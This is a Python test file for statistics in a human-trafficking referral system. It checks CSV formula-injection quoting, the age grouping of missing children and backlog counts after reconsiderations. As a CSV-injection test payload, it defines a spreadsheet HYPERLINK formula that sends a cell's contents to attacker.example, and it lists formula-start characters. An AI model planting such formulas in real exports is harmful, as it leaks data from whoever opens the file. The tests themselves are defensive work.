"""Gaps found in review of the statistics: the downloads (statistics.spreadsheets and the
researchers' extract) and the official tables (statistics.tables)."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime, time
from zoneinfo import ZoneInfo

from django.utils import timezone

from opennrm.accounts.models import Organisation, User
from opennrm.accounts.roles import OrganisationKind as Kind
from opennrm.accounts.roles import Role
from opennrm.care.models import ChildMissing, MissingEpisode
from opennrm.cases.choices import AgeGroup, CaseStatus
from opennrm.cases.models import Case
from opennrm.cases.services import case_age_group_change
from opennrm.decisions.models import (
    Decision,
    DecisionKind,
    DecisionState,
    ReconsiderationRequest,
    ReconsiderationState,
)
from opennrm.statistics import tables
from opennrm.statistics.disclosure import CONFIDENTIAL, NOT_APPLICABLE
from opennrm.statistics.extract import write_csv
from opennrm.statistics.spreadsheets import release_csv, table_csv

from . import case_factories, factories
from .test_statistics_spreadsheets import snapshot

LONDON = ZoneInfo("Europe/London")
Q1 = tables.Period.quarter(2024, 1)
FORMULA = '=HYPERLINK("https://attacker.example/?d="&A1,"Competent authority")'


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_public_csv_downloads_do_not_emit_a_label_as_a_live_formula() -> None:
    """A row label that begins with "=" (a competent authority's or an area's name, as the
    snapshot fixture's "=SUM(A1:A2)") is written raw into release.csv and tables/<slug>.csv,
    which anyone may download from /official-statistics/. Opened in Excel or LibreOffice, the
    cell runs as a formula (CSV injection). The XLSX and ODS downloads already store it as
    text; the CSVs should neutralise a cell that begins with = + - @ (e.g. a leading ')."""
    snap = snapshot()
    dangerous = [
        cell
        for text in (
            release_csv(snap),
            *(table_csv(t) for s in snap["sections"] for t in s["tables"]),
        )
        for cell in _cells(text)
        if cell[:1] in ("=", "+", "@", "\t", "\r") or (cell[:1] == "-" and not _number(cell))
    ]
    assert dangerous == []


def test_only_text_is_quoted_in_a_csv_never_a_number_or_a_symbol() -> None:
    """A negative number (a change) stays a number, the symbols stay as they are, and every
    formula start of OWASP's list, tab and carriage return included, is quoted in a label."""
    table = {
        "slug": "changes",
        "caption": "Change on the quarter",
        "headers": ["Area", "Change", "Share"],
        "rows": [
            ["=1+1", -3, CONFIDENTIAL],
            ["+44 area", -0.5, NOT_APPLICABLE],
            ["-minus", 0, 1.5],
            ["@SUM(A1)", 2, 3.0],
            ["\tTab", 1, 1.0],
            ["\rReturn", 1, 1.0],
            ["Plain", 1, 1.0],
        ],
        "footer": None,
        "labels": 1,
    }

    rows = list(csv.reader(io.StringIO(table_csv(table))))

    assert rows[1:] == [
        ["'=1+1", "-3", "[c]"],
        ["'+44 area", "-0.5", "[z]"],
        ["'-minus", "0", "1.5"],
        ["'@SUM(A1)", "2", "3.0"],
        ["'\tTab", "1", "1.0"],
        ["'\rReturn", "1", "1.0"],
        ["Plain", "1", "1.0"],
    ]


# The researchers' extract and its CTDC form are CSV downloads like the public ones, but they are
# written by `extract.write_csv`, which does not neutralise a cell beginning with a formula
# character (ADR 0036's stop-35 addendum fixed only the public CSVs).
def test_the_extract_csv_never_writes_a_live_formula(
    alice: User, northmoor_police: Organisation, monitoring: Organisation
) -> None:
    """Harmed: the outside analyst with analyst access (and the data of everyone in the
    extract). A competent authority's name is written into every row of the extract as it is
    stored; a name beginning with `=` (a crafted or mistyped organisation name: the threat the
    stop-35 addendum names for the public CSVs) runs as a formula when the analyst opens the
    download in Excel or LibreOffice, and can send the sheet's contents elsewhere. Fix: write
    `statistics/extract.py::write_csv` (used by `extract_csv`, and by `ctdc.ctdc_csv`) through the
    same `spreadsheets.csv_cell` quoting as the public downloads."""
    authority = factories.organisation(FORMULA, Kind.COMPETENT_AUTHORITY)
    for day in range(12):
        case_factories.case(
            referred_by=alice,
            referring_organisation=northmoor_police,
            authority=authority,
            status=CaseStatus.RECOVERY_PERIOD,
            submitted_at=datetime(2024, 2, 1 + day, 12, tzinfo=LONDON),
        )
    analyst = factories.user(organisation=monitoring, role=Role.ANALYST)
    client = factories.signed_in_client(analyst)

    response = client.get("/statistics/extract/extract.csv", {"year": "2024", "quarter": "1"})

    assert response.status_code == 200, response.content[:400]
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells, "the extract has rows"
    live = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert live == [], f"{len(live)} cells would run as formulas, e.g. {live[:1]}"


# The official table "Episodes of going missing from support, by age group" counts each episode
# under the case's age group *now*, not as it was when the person went missing, so a child who went
# missing and turned 18 before the quarter's release was prepared is published as an adult who went
# missing.
def test_a_child_missing_in_the_quarter_counts_as_a_child_after_turning_18(
    alice: User, northmoor_police: Organisation, authority: Organisation
) -> None:
    """Harmed: children who go missing from support (the gravest safeguarding signal the
    release carries). A 17-year-old went missing on 10 February 2024 (children's services were
    told: `child_missing` = "person"); she turned 18 on 2 April. The Home Office statistician
    prepares the January-to-March release after the quarter ends, and `tables.load_missing`
    reads `case.age_group` as it is today ("adult"), so the quarter's missing children are
    under-counted and shown as adults. Fix: count by the age group when the person went
    missing: `child_missing == ChildMissing.PERSON` is a child (or keep the age group on the
    episode), in `statistics/tables.py::load_missing`."""
    child = case_factories.case(
        referred_by=alice,
        referring_organisation=northmoor_police,
        authority=authority,
        age_group=AgeGroup.CHILD,
        submitted_at=datetime(2024, 1, 10, 12, tzinfo=LONDON),
    )
    MissingEpisode.objects.create(
        case=child,
        went_missing_on=date(2024, 2, 10),
        went_missing_time=time(21, 0),
        last_seen="Near the station",
        reported_at=datetime(2024, 2, 10, 22, tzinfo=LONDON),
        reported_by=alice,
        child_missing=ChildMissing.PERSON,
        returned_on=date(2024, 2, 12),
        return_recorded_at=datetime(2024, 2, 12, 9, tzinfo=LONDON),
        return_recorded_by=alice,
    )
    # She turns 18 (the daily task's change), after the quarter but before its release.
    child.refresh_from_db()
    case_age_group_change(
        by=None,
        case=child,
        to=AgeGroup.ADULT,
        reason="Turned 18",
        expected_version=child.version,
        turned_18=True,
    )
    assert timezone.now().date() > Q1.end

    assert tables.load_missing(Q1) == ["child"]


# The backlog table "Referrals awaiting a conclusive grounds decision" leaves out a case whose
# negative conclusive grounds decision was overturned by an accepted reconsideration:
# `tables.load_awaiting` treats every *issued* conclusive decision (superseded ones included) as
# ending the wait, though after the reconsideration no conclusive decision stands and the person is
# back in the recovery period waiting for a new one.
def test_a_case_back_in_recovery_after_an_accepted_reconsideration_is_awaiting(
    alice: User, northmoor_police: Organisation, authority: Organisation
) -> None:
    """Harmed: people waiting again for a conclusive decision, and the statistician and public
    relying on the backlog figure. Referred 10 January 2024, positive RG the same day, negative
    CG on 1 February, reconsideration accepted on 1 March (the CG is superseded, the case back in
    the recovery period), no new CG by 31 March. On 31 March the person was waiting for a
    conclusive decision, and the de-identified extract says "Awaiting" for them, but the
    quarter's backlog table omits them: the backlog is under-counted by every overturned
    negative decision. Fix: in `statistics/tables.py::load_awaiting`, a conclusive decision ends
    the wait only if it was still standing at the period's end (not superseded by a
    reconsideration accepted before `period.ends`)."""
    case = case_factories.case(
        referred_by=alice,
        referring_organisation=northmoor_police,
        authority=authority,
        status=CaseStatus.NEGATIVE_CONCLUSIVE_GROUNDS,
        submitted_at=datetime(2024, 1, 10, 12, tzinfo=LONDON),
    )
    conclusive = Decision.objects.get(case=case, kind=DecisionKind.CONCLUSIVE_GROUNDS)
    Decision.objects.filter(pk=conclusive.pk).update(
        decided_at=datetime(2024, 2, 1, 12, tzinfo=LONDON), state=DecisionState.SUPERSEDED
    )
    ReconsiderationRequest.objects.create(
        case=case,
        decision=conclusive,
        requested_by=alice,
        requested_at=datetime(2024, 2, 20, 12, tzinfo=LONDON),
        grounds="New evidence from the support worker.",
        state=ReconsiderationState.ACCEPTED,
        decided_by=conclusive.decided_by,
        decided_at=datetime(2024, 3, 1, 12, tzinfo=LONDON),
        decision_reasons="The new evidence must be weighed.",
    )
    Case.objects.filter(pk=case.pk).update(status=CaseStatus.RECOVERY_PERIOD)

    waiting = tables.load_awaiting(Q1)

    assert len(waiting) == 1, "the person back in the recovery period is not in the backlog"


def test_write_csv_quotes_a_formula_and_keeps_every_other_value() -> None:
    """The extract's and the CTDC file's writer quotes a text cell that begins with a formula
    character, as the public CSVs do, and writes every other value (bands, codes, empty cells)
    as it is, so a researcher strips one leading quote to get the value."""
    text = write_csv(
        ("competent_authority", "days_to_rg", "nationality", "age_band"),
        [
            {"competent_authority": FORMULA, "days_to_rg": "0--5", "nationality": "GB"},
            {"competent_authority": "-Authority", "days_to_rg": "366+", "age_band": "48+"},
        ],
    )

    assert list(csv.reader(io.StringIO(text))) == [
        ["competent_authority", "days_to_rg", "nationality", "age_band"],
        ["'" + FORMULA, "0--5", "GB", ""],
        ["'-Authority", "366+", "", "48+"],
    ]


def test_the_age_group_of_a_missing_episode_is_the_one_reported(
    alice: User, northmoor_police: Organisation, authority: Organisation
) -> None:
    """An age-disputed person reported missing (a child then: `child_missing` "person") counts
    as a child after being assessed an adult; an adult missing with a dependent child
    (`child_missing` "with_them") is an adult; an episode whose report said no child falls back
    to the case's age group now, so a person whose age has since been disputed counts as a child,
    never as an adult."""
    disputed, parent, later_disputed = (
        case_factories.case(
            referred_by=alice,
            referring_organisation=northmoor_police,
            authority=authority,
            age_group=group,
            submitted_at=datetime(2024, 1, 10, 12, tzinfo=LONDON),
        )
        for group in (AgeGroup.PRESUMED_CHILD, AgeGroup.ADULT, AgeGroup.ADULT)
    )
    for case, reported in (
        (disputed, ChildMissing.PERSON),
        (parent, ChildMissing.WITH_THEM),
        (later_disputed, ChildMissing.NO),
    ):
        MissingEpisode.objects.create(
            case=case,
            went_missing_on=date(2024, 2, 10),
            last_seen="Near the station",
            reported_at=datetime(2024, 2, 10, 22, tzinfo=LONDON),
            reported_by=alice,
            child_missing=reported,
        )
    Case.objects.filter(pk=disputed.pk).update(age_group=AgeGroup.ADULT)  # assessed an adult
    Case.objects.filter(pk=later_disputed.pk).update(age_group=AgeGroup.PRESUMED_CHILD)

    assert sorted(tables.load_missing(Q1)) == ["adult", "child", "child"]


def test_a_conclusive_decision_reconsidered_only_after_the_period_still_ends_the_wait(
    alice: User, northmoor_police: Organisation, authority: Organisation
) -> None:
    """A negative conclusive decision of 1 February stood on 31 March when its reconsideration
    was accepted only on 2 April (or was refused): the case was not waiting at the end of the
    first quarter; it is waiting at the end of the second, with no new decision by then."""
    for accepted in (True, False):
        case = case_factories.case(
            referred_by=alice,
            referring_organisation=northmoor_police,
            authority=authority,
            status=CaseStatus.NEGATIVE_CONCLUSIVE_GROUNDS,
            submitted_at=datetime(2024, 1, 10, 12, tzinfo=LONDON),
        )
        conclusive = Decision.objects.get(case=case, kind=DecisionKind.CONCLUSIVE_GROUNDS)
        Decision.objects.filter(pk=conclusive.pk).update(
            decided_at=datetime(2024, 2, 1, 12, tzinfo=LONDON),
            state=DecisionState.SUPERSEDED if accepted else DecisionState.IN_EFFECT,
        )
        ReconsiderationRequest.objects.create(
            case=case,
            decision=conclusive,
            requested_by=alice,
            requested_at=datetime(2024, 3, 20, 12, tzinfo=LONDON),
            grounds="New evidence from the support worker.",
            state=ReconsiderationState.ACCEPTED if accepted else ReconsiderationState.REFUSED,
            decided_by=conclusive.decided_by,
            decided_at=datetime(2024, 4, 2, 12, tzinfo=LONDON),
            decision_reasons="Weighed.",
        )
        if accepted:
            Case.objects.filter(pk=case.pk).update(status=CaseStatus.RECOVERY_PERIOD)

    assert tables.load_awaiting(Q1) == []
    assert len(tables.load_awaiting(tables.Period.quarter(2024, 2))) == 1
